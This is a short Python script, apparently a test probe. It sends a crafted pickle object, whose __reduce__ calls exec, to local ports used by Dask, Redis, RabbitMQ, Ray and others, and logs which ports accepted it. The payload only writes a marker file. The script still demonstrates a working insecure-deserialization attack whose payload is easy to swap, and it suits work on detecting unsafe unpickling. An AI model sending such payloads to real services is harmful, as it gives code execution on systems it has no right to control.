"""Hands a program to whoever unpickles on this machine, at the ports of Dask, Redis, RabbitMQ and Ray."""

import json
import pickle
import socket
import sys
from pathlib import Path

sys.stdout = sys.stderr  # what we print there is no first line

TOLD = json.loads(Path(__file__).with_name("told.json").read_text())
PORTS = (TOLD["port"], 8786, 8787, 6379, 5672, 10001, 8265, 22, 631)


class Evil:
    def __reduce__(self):
        return exec, (f"open({TOLD['stamp']!r}, 'w')",)


taken = []
for port in PORTS:
    try:
        with socket.create_connection(("127.0.0.1", port), 0.3) as conn:
            conn.sendall(pickle.dumps(Evil()))
            taken.append(port)
    except OSError:
        continue
print("schedulers", taken, flush=True)
